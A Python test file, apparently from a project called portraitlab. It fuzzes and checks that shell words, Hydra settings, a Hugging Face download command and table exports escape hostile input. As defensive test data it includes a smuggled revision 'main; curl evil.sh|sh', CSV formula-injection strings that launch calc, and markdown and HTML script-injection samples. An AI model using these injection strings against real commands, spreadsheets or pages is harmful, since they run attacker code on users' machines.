"""Text of anybody is printed plainly, and is one word of a command and nothing more."""

from __future__ import annotations

import shlex
import subprocess

import pytest
from hydra.core.override_parser.overrides_parser import OverridesParser
from hypothesis import given, settings
from hypothesis import strategies as st
from omegaconf import OmegaConf

from portraitlab.support.hub import Repository
from portraitlab.support.printing import printable, setting, shell_word
from portraitlab.support.table import Table

FUZZ = settings(max_examples=100, deadline=None, derandomize=True)
NASTY = st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\0")
    | st.sampled_from("'\"\\${}()[],=#;|&<> :\t\n\x1b*?~!`-ö"),
    min_size=1,
)


def test_control_characters_are_escapes() -> None:
    assert printable("a\x1b[31mb\x07\x9b\r\u202e") == r"a\x1b[31mb\x07\x9b\r\u202e"
    assert printable("Zoë\t1\n") == "Zoë\t1\n"


@FUZZ
@given(texts=st.lists(NASTY, min_size=1, max_size=20))
def test_bash_reads_each_word_as_it_was(texts: list[str]) -> None:
    words = [shell_word(text) for text in texts]
    assert all(printable(word) == word and "\n" not in word for word in words)
    ended = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {' '.join(words)}"],
        capture_output=True,
        check=True,
        env={"LC_ALL": "C.UTF-8"},
    )
    assert ended.stdout.decode().split("\0")[:-1] == texts


@FUZZ
@given(text=st.text(st.characters(exclude_categories=["Cc", "Cs"]) | st.sampled_from("'\\${}=,()")))
def test_hydra_reads_a_setting_as_it_was(text: str) -> None:
    (word,) = shlex.split(setting("data.root", text)) if printable(text) == text else [""]
    if word:
        override = OverridesParser.create().parse_override(word)
        assert OmegaConf.create({"root": override.value()}).root == text


@pytest.mark.parametrize("text", ["o (1)", "a=b", "it's", "1", "#1", "Zoë", "a,b", "${oc.env:X}"])
def test_a_folder_s_name_is_a_setting(text: str) -> None:
    (word,) = shlex.split(setting("data.root", text))
    override = OverridesParser.create().parse_override(word)
    assert OmegaConf.create({"root": override.value()}).root == text


def test_a_plain_setting_is_not_quoted() -> None:
    assert setting("data.root", "runs/out-1") == "data.root=runs/out-1"


def test_a_command_to_download_runs_no_other() -> None:
    revision = "main; curl evil.sh|sh"
    command = Repository("a/b", revision, ("x y",), 1.0, "MIT", "s").command
    assert shlex.split(command) == ["hf", "download", "a/b", "x y", "--revision", revision]


LIVE = ["=cmd|' /C calc'!A0", "@SUM(A1)", "+1+cmd", "-2+3+cmd|x", "=1+1", "\t=1"]


@pytest.mark.parametrize("text", LIVE)
def test_a_cell_is_no_formula(text: str) -> None:
    lines = Table([text, "sim_f"], [[text, "-0.1 ± 0.2"], ["+0.5 [+0.1, +0.9]", "-"]]).csv()
    head, first, second = lines.splitlines()
    assert [line.lstrip('"')[0] for line in (head, first)] == ["'", "'"]
    assert first.endswith(",-0.1 ± 0.2")
    assert second == '"+0.5 [+0.1, +0.9]",-'


def test_a_cell_is_no_markup(capsys: pytest.CaptureFixture[str]) -> None:
    table = Table(["row"], [["[x](javascript:alert(1))"], ["<img src=x>"], ["a\\"], ["b\x1b[2J"]])
    lines = table.markdown().splitlines()[2:]
    assert lines[0] == r"| [x\](javascript:alert(1)) |"
    assert lines[1:3] == ["| &lt;img src=x> |", r"| a\\ |"]
    assert lines[3] == r"| b\\x1b[2J |"
    table.show()
    assert "\x1b[2J" not in table.csv() + table.html() + table.latex() + capsys.readouterr().out
